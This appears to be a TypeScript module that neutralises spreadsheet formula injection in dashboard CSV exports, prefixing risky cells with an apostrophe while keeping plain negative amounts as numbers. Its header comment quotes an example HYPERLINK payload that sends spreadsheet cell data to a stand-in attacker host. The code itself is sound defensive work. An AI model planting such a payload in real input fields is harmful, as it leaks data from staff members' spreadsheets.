// Every dashboard CSV goes through here, so that no cell can run as a spreadsheet formula: a
// supporter can name themselves `=HYPERLINK("https://evil.example/?"&A2, "open")` at Stripe
// Checkout, and Excel, LibreOffice and Google Sheets would run it in a staff member's sheet.
import { stringify } from "csv-stringify/sync";

/** Characters a spreadsheet may read as the start of a formula (with their full-width forms). */
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A plain decimal such as a refund's `-5.00`: a spreadsheet reads it as a number, never a formula. */
const plainDecimal = /^-?\d+(\.\d+)?$/;

/**
 * A cell that could start a formula is shown as text, prefixed with `'` (OWASP's advice, which the
 * spreadsheets hide on display). Plain decimals keep their sign, so amounts stay numbers.
 */
export function neutraliseFormula(cell: string): string {
  return formulaStart.test(cell) && !plainDecimal.test(cell) ? `'${cell}` : cell;
}

export function stringifyCsv(rows: readonly (readonly string[])[]): string {
  return stringify(
    rows.map((row) => [...row]),
    { cast: { string: neutraliseFormula } },
  );
}
